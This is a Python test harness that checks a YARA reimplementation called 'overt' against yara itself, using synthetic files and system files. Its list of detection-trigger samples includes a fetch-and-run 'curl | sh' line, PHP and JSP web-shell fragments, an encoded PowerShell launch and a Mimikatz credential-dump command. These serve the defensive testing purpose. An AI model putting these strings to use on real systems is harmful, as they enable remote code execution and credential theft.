#!/usr/bin/env python3
# SPDX-License-Identifier: Apache-2.0
"""Compares matches of rules as public rule sets have them with yara's.

usage: yara_shapes.py OVERT [--rules FILE] [--files N] [--seed N] [PATH...]

The rules (yara_shapes.yar beside this, or another file) are run by both over N
generated files, which have the rules' own strings in them, whole, cut and
changed, behind the heads of several kinds of file; over some of this machine's
programs, libraries and texts; and over PATHs. Every rule must hold for the same
files, with the same strings at the same places. Exits with 77 without yara."""
import argparse
import os
import random
import re
import shutil
import struct
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
SYSTEM = ["/usr/bin", "/usr/lib/x86_64-linux-gnu", "/usr/share/doc",
          "/usr/share/clamav-testfiles", "/etc", "/usr/share/perl5",
          "/usr/lib/python3", "/usr/lib/mono", "/usr/lib/systemd/boot/efi"]
LARGEST = 400_000


def literals(source):
    """What the text and hexadecimal strings of the rules stand for, nearly."""
    found = []
    for text in re.findall(r'\$\w* *= *"((?:[^"\\]|\\.)*)"', source):
        raw = re.sub(r"\\x(..)", lambda m: chr(int(m.group(1), 16)), text)
        for escape, byte in (('\\"', '"'), ("\\t", "\t"), ("\\n", "\n"),
                             ("\\r", "\r"), ("\\\\", "\\")):
            raw = raw.replace(escape, byte)
        found.append(raw.encode("latin-1"))
    for cells in re.findall(r"\$\w* *= *\{([^}]*)\}", source):
        cells = re.sub(r"/\*.*?\*/|//.*", "", cells)
        cells = re.sub(r"\[(\d*)[^\]]*\]",
                       lambda m: "00" * min(int(m.group(1) or 0), 64), cells)
        cells = re.sub(r"\(([^|()]*)(?:\|[^()]*)?\)", r"\1", cells)
        digits = re.sub(r"[^0-9A-Fa-f?]", "", cells).replace("?", "5")
        if len(digits) % 2 == 0:
            found.append(bytes.fromhex(digits))
    return found


def expressions():
    """What the regular expressions are after."""
    return [b"eval ($x)", b"system($_GET[\"a\"])", b"assert\t(\"x\")",
            b"preg_replace('/.*/e', $_POST [1])", b"$_POST[\"k\"]",
            b"$abc($x)", b"$f[\"name\"](1)", b"\"\\x41\\x42", b"a'.'b",
            b"Global\\01234567-89ab-cdef-0123-0123456789ab",
            b"HKCU\\Software\\Microsoft\\Windows\\Run",
            b"http://example.invalid/gate.php?a=1", b"192.168.0.255 ",
            b" 0123456789abcdef0123456789abcdef ", b"User-Agent: Moz illa\r\n",
            b"powershell.exe -enc AAAA", b"c:\\build\\x.pdb\0",
            b"me@example.org", b"2024-01-31", b"GET /a b HTTP/1.1",
            b"foobarbazq", b"\0\xff\0\xff\0\xff", b"ababcd", b"\x90" * 9,
            b"A" * 12, b"microsoft windows", b"<script src=x>",
            b"Copyright (C) 2024", b"begin\nx end", b"begin x end",
            b"new  ProcessBuilder (", b"request.getParameter(\"cmd\")",
            b"curl -s http://h/x | sh", b"echo " + b"QUJD" * 6 + b" | base64 -d",
            b"\\objdata 0105000002000000", b"[char]65+[char]66+[char]67",
            b"a.exePK", b"lsadump::sam", b"0123456789abcdef" * 4,
            b"getenv(\"HTTP_X", b"/usr/bin/id", b"touch($a, 1)"]


def pe_head(r):
    head = bytearray(0x200)
    head[0:2] = b"MZ"
    struct.pack_into("<I", head, 0x3c, 0x80)
    struct.pack_into("<4sHHIIIHH", head, 0x80, b"PE\0\0",
                     r.choice([0x14c, 0x8664]), 1, r.randrange(2 ** 32), 0, 0,
                     224, r.choice([0x102, 0x2102]))
    struct.pack_into("<HBBIIIII", head, 0x98, 0x10b, 6, 0, 0x200, 0, 0, 0x1000,
                     0x1000)
    struct.pack_into("<I", head, 0x98 + 28, 0x400000)
    struct.pack_into("<II", head, 0x98 + 32, 0x1000, 0x200)
    struct.pack_into("<I", head, 0x98 + 92, 16)
    struct.pack_into("<8sIIIIIIHHI", head, 0x98 + 224,
                     r.choice([b".text", b"UPX0", b".aspack", b"odd"]),
                     0x1000, 0x1000, 0x400, 0x200, 0, 0, 0, 0,
                     r.choice([0x60000020, 0xe0000020]))
    return bytes(head)


HEADS = [b"", b"MZ", b"\x7fELF\2\1\1", b"%PDF-1.4\n", b"{\\rt", b"{\\rtf1",
         b"PK\3\4", b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", b"#!/bin/sh\n",
         b"<?php ", b"<%@ page %>", b"GIF89a", b"\x89PNG", b"\xca\xfe\xba\xbe",
         b"\x4c\0\0\0\1\x14\2\0", b"\xff\xfe"]


def disguise(r, text):
    kind = r.randrange(9)
    if kind == 0:
        return b"".join(bytes((b, 0)) for b in text)
    if kind == 1:
        key = r.randrange(1, 256)
        return bytes(b ^ key for b in text)
    if kind == 2:
        return text.swapcase()
    if kind == 3 and len(text) > 1:
        at = r.randrange(len(text))
        return text[:at] + bytes([r.randrange(256)]) + text[at + 1:]
    if kind == 4:
        import base64
        return base64.b64encode(bytes(r.randrange(256) for _ in range(3)) +
                                text + b"xyz")
    return text


def fill(r):
    kind = r.randrange(5)
    n = r.choice([0, 1, 2, 7, 30, 200, 1500])
    if kind == 0:
        return b"\0" * n
    if kind == 1:
        return bytes(r.randrange(256) for _ in range(n))
    if kind == 2:
        return b"\n" * min(n, 3) + b" "
    words = [b"the", b"and", b"not", b"lib", b"error", b"file", b"main",
             b"exit", b"\n", b"root", b"etc", b"bin", b"open", b"close",
             b"warning", b"GNU", b"-", b"(", b"x9"]
    return b" ".join(r.choice(words) for _ in range(n // 6))


def make_files(folder, r, n, pieces):
    for i in range(n):
        data = pe_head(r) if r.random() < 0.15 else r.choice(HEADS)
        for _ in range(r.randrange(1, 14)):
            data += fill(r) + disguise(r, r.choice(pieces))
        data += fill(r)
        with open(os.path.join(folder, "g%05d" % i), "wb") as f:
            f.write(data)


def link_system(folder, r, n):
    """Some of this machine's files, by links."""
    found = []
    for top in SYSTEM:
        here = []
        for root, _, names in os.walk(top):
            for name in sorted(names):
                path = os.path.join(root, name)
                if os.path.isfile(path) and not os.path.islink(path) and \
                        0 < os.path.getsize(path) < LARGEST and \
                        os.access(path, os.R_OK):
                    here.append(path)
        here.sort()
        r.shuffle(here)
        found += here[:n]
    for i, path in enumerate(found):
        shutil.copyfile(path, os.path.join(
            folder, "s%05d.%s" % (i, os.path.basename(path)[:60])))


def run(command):
    p = subprocess.run(command, capture_output=True, check=False)
    return p.returncode, p.stdout, p.stderr.decode("utf-8", "replace")


def blocks(out):
    """For each file and rule the lines of its strings, in their order."""
    found = {}
    now = None
    for line in out.splitlines():
        if re.match(rb"0x[0-9a-f]+:", line):
            found[now].append(line)
        else:
            rule, _, path = line.partition(b" ")
            now = (path, rule)
            found.setdefault(now, [])
    return {key: sorted(lines) for key, lines in found.items()}


# yara 4.2 does not forget a file's entry point: the next file of a folder has it
# too. So rules that ask are compared file by file.
STALE = re.compile(rb"packer_entry(_range)?$")


def compare(ours, theirs, is_folder=True):
    n = 0
    for key in sorted(set(ours) | set(theirs)):
        a, b = ours.get(key), theirs.get(key)
        if a == b or is_folder and STALE.match(key[1]):
            continue
        n += 1
        if n > 20:
            continue
        path, rule = key[0].decode(), key[1].decode()
        if a is None or b is None:
            print("%s: %s: only %s" % (path, rule,
                                       "yara" if a is None else "overt"))
            continue
        for word, one, other in (("overt", a, b), ("yara", b, a)):
            only = [line for line in one if line not in other]
            for line in only[:3]:
                print("%s: %s: only %s: %s" % (path, rule, word,
                                               line[:200].decode()))
    return n


def main():
    parser = argparse.ArgumentParser()
    parser.add_argument("overt")
    parser.add_argument("--rules", default=os.path.join(HERE,
                                                        "yara_shapes.yar"))
    parser.add_argument("--files", type=int, default=150)
    parser.add_argument("--system", type=int, default=12)
    parser.add_argument("--alone", type=int, default=10)
    parser.add_argument("--seed", type=int, default=random.randrange(10 ** 9))
    parser.add_argument("--keep")
    parser.add_argument("paths", nargs="*")
    o = parser.parse_args()

    if shutil.which("yara") is None:
        sys.exit(77)
    r = random.Random(o.seed)
    with open(o.rules, encoding="latin-1") as f:
        pieces = literals(f.read()) + expressions()
    n = 0
    with tempfile.TemporaryDirectory() as folder:
        make_files(folder, r, o.files, pieces)
        link_system(folder, r, o.system)
        rules = set()
        alone = [os.path.join(folder, name) for name in
                 r.sample(sorted(os.listdir(folder)), o.alone)]
        for top in [folder] + o.paths + alone:
            arguments = ["-w", "-s", "-r", "-p", "1", o.rules, top]
            code, theirs, said = run(["yara"] + arguments)
            our_code, ours, our_said = run([o.overt, "yara"] + arguments)
            if code != our_code or code != 0:
                print("yara: %d %s\novert: %d %s" % (code, said, our_code,
                                                      our_said))
                n += 1
            theirs = blocks(theirs)
            rules |= {rule for _, rule in theirs}
            n += compare(blocks(ours), theirs, os.path.isdir(top))
        if n > 0 and o.keep:
            shutil.copytree(folder, o.keep, dirs_exist_ok=True)
    print("%d differences (seed %d); yara matched %d rules" %
          (n, o.seed, len(rules)))
    sys.exit(n > 0)


main()
